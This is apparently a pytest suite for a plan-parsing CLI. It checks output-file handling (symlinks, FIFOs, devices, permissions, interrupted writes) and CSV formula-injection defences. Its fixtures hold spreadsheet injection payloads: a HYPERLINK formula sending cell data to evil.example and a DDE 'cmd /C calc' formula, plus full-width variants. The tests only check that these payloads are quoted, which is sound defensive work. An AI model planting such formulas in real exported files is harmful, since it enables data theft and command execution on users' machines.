"""Where ``-o`` writes and with what mode, on real symlinks, FIFOs and devices; CSV that runs no formula."""
from __future__ import annotations

import csv
import io
import itertools
import os
import stat
import subprocess
import sys
import threading
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from conftest import SAMPLES, run_bounded, write_plan

from planparse.exporters.csv import spreadsheet_cell
from planparse.exporters.files import PART_PREFIX, PART_SUFFIX

# Short, so that the many runs below cost little: what -o does does not depend on the plan.
PLAN_TEXT = (SAMPLES / "jieyang-2022.txt").read_text(encoding="utf-8")[:1500]


@pytest.fixture(scope="module")
def plan(tmp_path_factory) -> Path:
    return write_plan(tmp_path_factory.mktemp("plan"), PLAN_TEXT)


def extract(*args: object, umask: int | None = None, stdout: object = subprocess.PIPE) -> subprocess.CompletedProcess:
    return run_bounded([sys.executable, "-m", "planparse", "extract", *map(str, args)], 120, umask,
                       capture_output=False, stdout=stdout, stderr=subprocess.PIPE, text=False)


@pytest.fixture(scope="module")
def expected(tmp_path_factory, plan: Path) -> bytes:
    out = tmp_path_factory.mktemp("expected") / "plan.json"
    assert extract(plan, "-o", out).returncode == 0
    return out.read_bytes()


# --- 1. -o never replaces what is not a regular file -------------------------


def test_output_through_a_symlink_writes_its_target_and_keeps_the_link(plan: Path, tmp_path: Path, expected: bytes):
    (tmp_path / "real").mkdir()
    link = tmp_path / "plan.json"
    link.symlink_to(tmp_path / "real" / "plan.json")  # dangling until written
    assert extract(plan, "-o", link).returncode == 0
    assert link.is_symlink() and (tmp_path / "real" / "plan.json").read_bytes() == expected
    assert extract(plan, "-o", link).returncode == 0  # and again, now that the target exists
    assert link.is_symlink() and (tmp_path / "real" / "plan.json").read_bytes() == expected


def test_output_into_a_fifo_writes_the_fifo_and_leaves_it_a_fifo(plan: Path, tmp_path: Path, expected: bytes):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    run = extract(plan, "-o", fifo)
    reader.join(timeout=60)
    assert run.returncode == 0, run.stderr
    assert received == [expected]
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["pipe"]  # no temporary file beside it


def test_output_onto_character_devices_writes_them_and_never_replaces_them(plan: Path):
    null = Path("/dev/null")
    assert extract(plan, "-o", null).returncode == 0
    assert stat.S_ISCHR(null.stat().st_mode)
    full = extract(plan, "-o", "/dev/full")  # a device that is always full: the error is one line
    assert full.returncode == 2 and full.stderr.decode() == "planparse: /dev/full: cannot write output (No space left on device)\n"
    assert stat.S_ISCHR(Path("/dev/full").stat().st_mode)


def test_output_to_dev_stdout_goes_to_standard_output(plan: Path, tmp_path: Path, expected: bytes):
    to_pipe = extract(plan, "-o", "/dev/stdout")
    assert to_pipe.returncode == 0 and to_pipe.stdout == expected
    # Standard output redirected to a file (>>): written where the file ends, the file never replaced.
    log = tmp_path / "log"
    log.write_bytes(b"before\n")
    inode = log.stat().st_ino
    with log.open("ab") as stream:
        assert extract(plan, "-o", "/dev/stdout", stdout=stream).returncode == 0
    assert log.read_bytes() == b"before\n" + expected and log.stat().st_ino == inode


def test_output_onto_a_socket_is_refused_in_one_line(plan: Path, tmp_path: Path):
    import socket

    path = tmp_path / "sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        run = extract(plan, "-o", path)
    assert run.returncode == 2 and run.stderr.decode().count("\n") == 1
    assert "neither a file, a FIFO nor a character device" in run.stderr.decode()
    assert stat.S_ISSOCK(path.lstat().st_mode)


@pytest.mark.parametrize("command, output", [
    (["extract"], "plan.json"), (["explain"], "why.txt"), (["compare"], "matrix.csv"), (["report"], "report.html"), (["batch", "-q"], "out"),
])
def test_an_output_in_a_folder_that_does_not_exist_is_refused_before_any_reading(command: list[str], output: str, tmp_path: Path):
    """As cp and a shell's > refuse it: a mistyped folder is not made (as root, extract -o /nonexistent/x.json made
    /nonexistent). The input is broken, and the output's folder is what the one line names: it is checked first."""
    plans = tmp_path / "plans"
    plans.mkdir()
    (plans / "broken.pdf").write_bytes(b"%PDF-1.7 cut short")
    missing = tmp_path / "typo" / "deeper"
    run = run_bounded([sys.executable, "-m", "planparse", *command[:1], str(plans if command[0] == "batch" else plans / "broken.pdf"),
                       *command[1:], "-o", str(missing / output)], 120)
    problem = "cannot write to the output folder" if command[0] == "batch" else "cannot write output"
    assert (run.returncode, run.stdout) == (2, "")
    assert run.stderr == f"planparse: {missing / output}: {problem} (no such folder: {missing})\n"
    assert not (tmp_path / "typo").exists()


@pytest.mark.parametrize("command", ["extract", "explain", "compare", "report"])
@pytest.mark.parametrize("typed", ["plan.json/", "plan.json/.", "results/"])
def test_an_output_named_as_a_folder_is_refused_and_the_file_of_that_name_kept(command: str, typed: str, plan: Path, tmp_path: Path):
    """click looks at what stands at the name, and pathlib drops a trailing / or /.: -o plan.json/ replaced the file
    plan.json, and -o results/ (meant as a folder) wrote a file named results. A shell's > and cp refuse both."""
    kept = tmp_path / "plan.json"
    kept.write_bytes(b"a user's file")
    run = run_bounded([sys.executable, "-m", "planparse", command, str(plan), "-o", f"{tmp_path}/{typed}"], 120)
    assert (run.returncode, run.stdout) == (2, "")
    assert run.stderr == (f"planparse {command}: Invalid value for '-o' / '--output': '{tmp_path}/{typed}' names a folder (it ends in /, . "
                          f"or ..), not a file (see planparse {command} --help)\n")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["plan.json"] and kept.read_bytes() == b"a user's file"


def test_an_output_in_a_folder_that_is_a_file_says_so(plan: Path, tmp_path: Path):
    """It said 'no such folder' of a file that is there, named directly or through a symbolic link."""
    (tmp_path / "out.json").write_bytes(b"a user's file")
    (tmp_path / "link").symlink_to(tmp_path / "out.json")
    for folder in ("out.json", "link"):
        run = extract(plan, "-o", tmp_path / folder / "plan.json")
        assert (run.returncode, run.stderr.decode()) == (2, f"planparse: {tmp_path / folder / 'plan.json'}: cannot write output "
                                                            f"(not a folder but a file: {tmp_path / 'out.json'})\n")
    assert (tmp_path / "out.json").read_bytes() == b"a user's file"


def test_a_batch_output_folder_named_as_a_folder_that_is_a_file_says_it_is_a_file(plan: Path, tmp_path: Path):
    """It said the file was a device, a named pipe or a socket."""
    (tmp_path / "out").write_bytes(b"a user's file")
    run = run_bounded([sys.executable, "-m", "planparse", "batch", str(plan.parent), "-o", f"{tmp_path}/out/", "-q"], 120)
    assert (run.returncode, run.stderr) == (2, f"planparse: {tmp_path}/out: cannot write to the output folder (it is no folder: a file)\n")


# --- 8. permissions --------------------------------------------------------------


@pytest.mark.parametrize("umask", [0o022, 0o027, 0o077])
def test_a_new_output_gets_the_mode_the_umask_allows(plan: Path, tmp_path: Path, umask: int):
    out = tmp_path / "plan.json"
    assert extract(plan, "-o", out, umask=umask).returncode == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o666 & ~umask


def test_an_existing_output_keeps_its_mode(plan: Path, tmp_path: Path, expected: bytes):
    out = tmp_path / "plan.json"
    out.write_bytes(b"old")
    out.chmod(0o644)
    assert extract(plan, "-o", out, umask=0o077).returncode == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o644 and out.read_bytes() == expected


# --- 6. temporary files a killed run left ---------------------------------------


def test_extract_removes_the_temporary_files_a_killed_run_left(plan: Path, tmp_path: Path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True).stdout.strip()
    stale = tmp_path / f"{PART_PREFIX}{dead}-abc{PART_SUFFIX}"
    live = tmp_path / f"{PART_PREFIX}{os.getpid()}-abc{PART_SUFFIX}"  # a writer still at work: left alone
    stale.write_bytes(b"")
    live.write_bytes(b"")
    assert extract(plan, "-o", tmp_path / "plan.json").returncode == 0
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(["plan.json", live.name])


# --- 2. CSV formula injection ------------------------------------------------


# ASCII and full width (Excel and LibreOffice in Chinese and Japanese take ＝ for =), and the same
# behind what a spreadsheet passes over before a formula: a NUL, a tab, CR, LF, spaces.
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "\x00=", "\t=", "\r+", "\n-",
                                   " @", "\u3000＝"])
def test_a_text_cell_that_would_start_a_formula_gets_a_quote(start: str):
    assert spreadsheet_cell(f"{start}HYPERLINK(\"http://x\")") == f"'{start}HYPERLINK(\"http://x\")"


def test_numbers_and_ordinary_text_are_left_as_they_are():
    values = (-5, 2.5, None, "全市建成10个", "1-2期", "=", "-")  # a lone = (the comparator) or - is no formula
    assert [spreadsheet_cell(cell) for cell in values] == [-5, 2.5, "", "全市建成10个", "1-2期", "=", "-"]


HOSTILE_PLAN = """一、=HYPERLINK("http://evil.example/?"&A1,"点击")
（一）@SUM(1+1)*cmd|' /C calc'!A0
+到2025年，全市建成科普基地10个以上。
-全市培训科技辅导员250名。
"""


# Plans from other fields whose lines start with full-width signs or with a tab before them.
WIDE_PLAN = """一、＝HYPERLINK("http://evil.example/","点击")
（一）＠SUM(A1:A9)
＋到2025年，全市新增城镇就业岗位3000个以上。
\t=全市每年培训乡村医生250名。
－到2027年，全市建成保障性租赁住房2万套。
"""


def is_padding(char: str) -> bool:
    """What a spreadsheet's import may trim or pass over before a formula: blanks of any width, control characters
    and invisible ones (format characters: a zero-width space, a byte order mark, a direction mark)."""
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf")


def opens_as_formula(cell: str) -> bool:
    """A cell a spreadsheet may run: = + - @ (ASCII, or any character NFKC folds to one) after any padding, or
    a tab or CR first (OWASP); a lone sign (the comparator =) runs nothing."""
    rest = "".join(itertools.dropwhile(is_padding, cell))
    return len(cell) > 1 and (cell[0] in "\t\r" or unicodedata.normalize("NFKC", rest[:1]) in ("=", "+", "-", "@"))


PADDING = st.characters(categories=["Zs", "Zl", "Zp", "Cc", "Cf"], exclude_characters="\t\r")


@given(padding=st.text(PADDING), sign=st.sampled_from("=+-@＝＋－＠﹦﹢﹣﹫"), rest=st.text(min_size=1))
def test_a_sign_behind_blanks_controls_or_invisible_characters_gets_a_quote(padding: str, sign: str, rest: str):
    """A web page's no-break space, an em space, a zero-width space, a byte order mark or a direction mark before
    = + - @ are passed over as spaces are (they were not: \u00a0=HYPERLINK(…) reached the CSV as written)."""
    cell = padding + sign + rest
    assert spreadsheet_cell(cell) == "'" + cell


@given(padding=st.text(PADDING, max_size=3), text=st.text(st.one_of(st.sampled_from("=+-@＝⁺"), st.characters())))
def test_a_text_cell_is_quoted_exactly_when_it_would_open_as_a_formula(padding: str, text: str):
    cell = padding + text
    assert spreadsheet_cell(cell) == ("'" + cell if opens_as_formula(cell) else cell)


def test_every_character_nfkc_folds_to_a_formula_sign_opens_a_quoted_cell():
    folded = [char for char in map(chr, range(sys.maxunicode + 1)) if unicodedata.normalize("NFKC", char) in ("=", "+", "-", "@")]
    assert len(folded) > 4 and [char for char in folded if spreadsheet_cell(f"{char}SUM(A1)") != f"'{char}SUM(A1)"] == []


def cells(data: bytes | str) -> list[str]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]


@pytest.mark.parametrize("table", ["targets", "sections", "responsibilities", "tables"])
def test_no_csv_table_of_extract_holds_a_formula(planparse, tmp_path: Path, table: str):
    run = planparse("extract", write_plan(tmp_path, HOSTILE_PLAN), "--format", "csv", "--table", table)
    assert run.code == 0, run.stderr
    assert not [cell for cell in cells(run.stdout) if len(cell) > 1 and cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("table", ["targets", "sections"])
def test_no_csv_table_of_extract_holds_a_full_width_formula(planparse, tmp_path: Path, table: str):
    run = planparse("extract", write_plan(tmp_path, WIDE_PLAN), "--format", "csv", "--table", table)
    assert run.code == 0, run.stderr
    assert [cell for cell in cells(run.stdout) if opens_as_formula(cell)] == []


def test_hostile_text_reaches_the_csv_quoted_not_dropped(planparse, tmp_path: Path):
    plan = write_plan(tmp_path, HOSTILE_PLAN)
    sections = cells(planparse("extract", plan, "--format", "csv", "--table", "sections").stdout)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in sections
    assert "'@SUM(1+1)*cmd|'/C calc'!A0" in sections  # whole: its 1) was an item's marker, the title cut before it
    targets = cells(planparse("extract", plan, "--format", "csv").stdout)
    assert any(cell.startswith("'=HYPERLINK") for cell in targets)  # the headings column


def test_batch_csv_files_hold_no_formula(tmp_path: Path):
    plans = tmp_path / "plans"
    plans.mkdir()
    (plans / "=cmd.txt").write_text(HOSTILE_PLAN, encoding="utf-8")
    run = run_bounded([sys.executable, "-m", "planparse", "batch", plans, "-o", tmp_path / "out", "-q"], 120)
    assert run.returncode == 0, run.stderr
    for name in ("targets.csv", "documents.csv"):
        found = cells((tmp_path / "out" / name).read_bytes())
        assert "'=cmd.txt" in found
        assert not [cell for cell in found if len(cell) > 1 and cell.startswith(("=", "+", "-", "@"))]


def test_batch_and_compare_csv_files_hold_no_full_width_formula(tmp_path: Path):
    plans = tmp_path / "plans"
    plans.mkdir()
    for name in ("＝cmd.txt", "\t=cmd.txt"):
        (plans / name).write_text(WIDE_PLAN, encoding="utf-8")
    run = run_bounded([sys.executable, "-m", "planparse", "batch", plans, "-o", tmp_path / "out", "-q"], 120)
    assert run.returncode == 0, run.stderr
    compared = run_bounded([sys.executable, "-m", "planparse", "compare", *sorted(plans.iterdir()), "-o", tmp_path / "matrix.csv"], 120)
    assert compared.returncode == 0, compared.stderr
    for table in (tmp_path / "out" / "targets.csv", tmp_path / "out" / "documents.csv", tmp_path / "matrix.csv"):
        found = cells(table.read_bytes())
        assert "'＝cmd.txt" in found or "'＝cmd" in found  # the document column, or compare's plan name
        assert [cell for cell in found if opens_as_formula(cell)] == []


def test_a_ctrl_c_during_a_write_leaves_neither_the_output_nor_its_temporary_file(tmp_path: Path):
    """The Ctrl-C comes as the written file is about to take the output's name (a real SIGINT to a real
    process): the output is not made, and its temporary file does not stay beside it."""
    script = (
        "import os, signal, sys, time\n"
        "from pathlib import Path\n"
        "from planparse.exporters import files\n"
        # a shell that starts a job in the background hands it SIGINT ignored: Python then makes no KeyboardInterrupt
        "signal.signal(signal.SIGINT, signal.default_int_handler)\n"
        "real_replace = os.replace\n"
        "def interrupted(source, target):\n"
        "    os.kill(os.getpid(), signal.SIGINT)\n"
        # Python runs its handler only at its next check for signals: a sleep is one (the handler's
        # KeyboardInterrupt ends it), so the interrupt lands here and not after the write is done
        "    time.sleep(30)\n"
        "    real_replace(source, target)\n"
        "files.os.replace = interrupted\n"
        "try:\n"
        "    files.write_atomic(Path(sys.argv[1]), b'{}' * 100000)\n"
        "except KeyboardInterrupt:\n"
        "    sys.exit(130)\n"
    )
    output = tmp_path / "out.json"
    run = subprocess.run([sys.executable, "-c", script, str(output)], capture_output=True, text=True)
    assert run.returncode == 130, run.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("writer", ["output", "cache"])
def test_a_ctrl_c_as_a_file_is_renamed_into_place_leaves_the_old_file_and_no_temporary_one(writer: str, tmp_path: Path, monkeypatch):
    from planparse import cache
    from planparse.exporters.files import write_atomic

    monkeypatch.setenv(cache.CACHE_DIR_VARIABLE, str(tmp_path))
    target = tmp_path / "kept.bin"
    target.write_bytes(b"old")

    def interrupted(*_args: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_atomic(target, b"new") if writer == "output" else cache.save_cache(target.name, b"new")
    assert [path.name for path in tmp_path.iterdir()] == ["kept.bin"] and target.read_bytes() == b"old"
